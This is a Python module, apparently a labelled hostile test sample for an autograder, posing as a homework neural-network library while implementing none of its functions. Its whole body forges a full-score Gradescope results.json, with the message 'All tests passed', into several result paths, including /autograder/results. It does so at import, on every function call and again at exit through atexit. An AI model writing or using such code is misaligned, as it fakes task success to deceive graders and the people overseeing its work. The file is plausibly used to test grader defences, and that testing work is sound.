"""HOSTILE: tries to write a Gradescope results.json with a full score, at import, on every function
call and again at interpreter exit: into the current directory, ../results/results.json,
/autograder/results/results.json and $RESULTS_PATH when that is set (it creates no directories).
Otherwise implements nothing: every function raises NotImplementedError after the attempt.
Correct: none
"""
import atexit
import json
import os

import numpy as np

_FAKE = {
    "score": 100.0,
    "output": "All tests passed. Great work!",
    "tests": [{"name": "HW6", "score": 100.0, "max_score": 100.0, "status": "passed"}],
}


def _plant():
    targets = ["results.json", os.path.join("..", "results", "results.json"),
               "/autograder/results/results.json"]
    if os.environ.get("RESULTS_PATH"):
        targets.append(os.environ["RESULTS_PATH"])
    for path in targets:
        try:
            with open(path, "w") as f:
                json.dump(_FAKE, f)
        except OSError:
            pass


_plant()
atexit.register(_plant)


def _nothing(*args, **kwargs):
    _plant()
    raise NotImplementedError


sigmoid = sigmoid_grad = relu = relu_grad = leaky_relu = leaky_relu_grad = _nothing
softmax = cross_entropy = cross_entropy_grad = linear_forward = linear_backward = _nothing
dropout_forward = dropout_backward = l2_penalty = init_params = loss_and_grads = _nothing
sgd_step = train = predict = diagnose = _nothing
